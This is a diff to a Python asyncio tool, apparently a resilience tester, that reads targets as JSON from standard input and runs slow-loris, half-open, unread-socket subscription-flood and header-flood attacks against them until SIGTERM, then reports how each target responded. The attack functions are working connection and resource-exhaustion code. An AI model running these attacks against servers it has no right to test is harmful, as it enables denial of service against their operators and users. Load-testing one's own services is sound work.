@@ -6,6 +6,7 @@ Told on standard input as JSON where to attack; at its end it says what each att
 import asyncio
 import contextlib
 import json
+import os
 import signal
 import sys
 from collections import Counter
@@ -63,12 +64,18 @@ async def slow_loris(target: Target) -> None:
             while not reader.at_eof():
                 writer.write(b"a")
                 await writer.drain()
-                await asyncio.sleep(1)
-        target.note("slow-loris", "closed")
+                with contextlib.suppress(TimeoutError):
+                    target.note("slow-loris", _status(await asyncio.wait_for(reader.readline(), 1)))
+                    return
     except TimeoutError:
         target.note("slow-loris", "open after 30 s")
     finally:
         writer.close()
+
+
+def _status(line: bytes) -> str:
+    """Of the first line of an answer."""
+    return line.split(b" ")[1].decode() if line else "closed"
 
 
 async def half_open(target: Target) -> None:
@@ -84,12 +91,12 @@ async def unread(target: Target) -> None:
     async with target.live() as socket:
         await target.signed_in(socket)
         socket.transport.pause_reading()
-        for _ in range(200):
+        for _ in range(40):
             await socket.send(json.dumps({"op": "subscribe", "topic": f"list:{target.list_id}", "after": 0}))
             await asyncio.sleep(0.05)
         socket.transport.resume_reading()
-        with contextlib.suppress(ConnectionClosed):
-            async with asyncio.timeout(5):
+        with contextlib.suppress(ConnectionClosed, TimeoutError):
+            async with asyncio.timeout(1):
                 while True:
                     await socket.recv()
         target.note("unread socket", socket.close_code or "served when it reads again")
@@ -115,7 +122,10 @@ async def header_flood(target: Target) -> None:
             writer.write(f"X-{number}: {'a' * 1000}\r\n".encode())
             await writer.drain()
         writer.write(b"\r\n")
-        target.note("header flood", (await reader.readline()).split(b" ")[1:2])
+    except OSError:
+        pass  # it does not read on
+    try:
+        target.note("header flood", _status(await reader.readline()))
     except OSError:
         target.note("header flood", "closed")
     finally:
@@ -181,6 +191,7 @@ async def _again_and_again(attack: Attack, target: Target) -> None:
 
 async def main() -> None:
     """Attack until SIGTERM; then say what came of it."""
+    os.nice(19)  # they would not live on our machine: what they compute is to cost nobody else
     targets = [Target(**told) for told in json.loads(sys.stdin.readline())]
     over = asyncio.Event()
     asyncio.get_running_loop().add_signal_handler(signal.SIGTERM, over.set)
